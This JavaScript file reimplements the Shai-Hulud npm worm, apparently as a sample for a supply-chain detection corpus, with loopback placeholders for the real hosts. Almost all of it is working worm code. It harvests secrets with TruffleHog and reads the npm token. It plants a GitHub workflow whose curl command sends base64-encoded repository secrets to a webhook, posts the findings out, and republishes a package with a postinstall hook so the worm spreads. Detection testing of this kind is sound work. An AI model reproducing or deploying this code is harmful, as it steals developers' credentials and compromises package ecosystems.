// bundle.js of Shai-Hulud's first wave (Sysdig, Panther, cyberbudo): download TruffleHog from
// GitHub releases and scan the file system for secrets; read the npm token; write
// /tmp/processor.sh, which adds .github/workflows/shai-hulud-workflow.yml on a `shai-hulud`
// branch of each repository; send the findings to webhook.site; republish the maintainer's
// packages with bundle.js in them. Here GitHub and webhook.site are the loopback C2, the registry
// is the loopback test registry, TruffleHog is a script that exits, and the repository is a
// fresh one in the temp folder.
if (process.env.SUPPLYWATCH_LIVE_CORPUS !== '1') process.exit(0);
const fs = require('fs');
const http = require('http');
const os = require('os');
const path = require('path');
const { execFileSync, spawnSync } = require('child_process');

const tmp = os.tmpdir();
// Resolved on 'close', not 'finish': a file still open for writing cannot be executed (ETXTBSY).
const get = (url, file) => new Promise((resolve) => http.get(url, (res) => res.pipe(fs.createWriteStream(file, { mode: 0o755 })).on('close', resolve)));

(async () => {
  const trufflehog = path.join(tmp, 'trufflehog');
  await get('__C2@github.com__/trufflesecurity/trufflehog/releases/download/v3.90.6/trufflehog', trufflehog);
  const findings = spawnSync(trufflehog, ['filesystem', os.homedir(), '--json'], { encoding: 'utf8' }).stdout;
  const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
  const token = (npmrc.match(/_authToken=(\S+)/) || [])[1] || '';

  const repo = path.join(tmp, 'victim-repo');
  fs.mkdirSync(repo, { recursive: true });
  execFileSync('git', ['init', '-q'], { cwd: repo });
  const processor = path.join(tmp, 'processor.sh');
  fs.writeFileSync(processor, [
    '#!/bin/bash',
    'cd "$2"',
    'git checkout -q -b shai-hulud',
    'mkdir -p .github/workflows',
    'printf "on: push\\njobs:\\n  process:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -d \\"$(echo \'${{ toJSON(secrets) }}\' | base64 -w 0)\\" __C2@webhook.site__/webhook\\n" > .github/workflows/shai-hulud-workflow.yml',
    'git add .github/workflows/shai-hulud-workflow.yml',
    'git -c user.name=shai-hulud -c user.email=shai-hulud@example.invalid commit -q -m "Add Shai-Hulud workflow"',
    '',
  ].join('\n'), { mode: 0o755 });
  spawnSync('/bin/bash', [processor, token, repo], { stdio: 'ignore' });

  await new Promise((resolve) => {
    const q = http.request('__C2@webhook.site__/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7', { method: 'POST' }, (res) => res.resume().on('end', resolve));
    q.on('error', resolve);
    q.end(JSON.stringify({ system: { platform: os.platform(), hostname: os.hostname() }, trufflehog: findings, token: token ? 'REDACTED' : '' }));
  });

  // Republish: a copy of one of the maintainer's packages with bundle.js and a bumped version.
  const copy = path.join(tmp, 'republish');
  fs.mkdirSync(copy, { recursive: true });
  fs.copyFileSync(__filename, path.join(copy, 'bundle.js'));
  fs.writeFileSync(path.join(copy, 'package.json'), JSON.stringify({ name: 'victim-package', version: '1.0.1', scripts: { postinstall: 'node bundle.js' } }));
  // The worm publishes with the victim's own npm configuration (no flag); here that
  // configuration points at the loopback registry.
  spawnSync('npm', ['publish'], { cwd: copy, stdio: 'ignore', env: { ...process.env, npm_config_registry: '__REGISTRY__' } });
})();
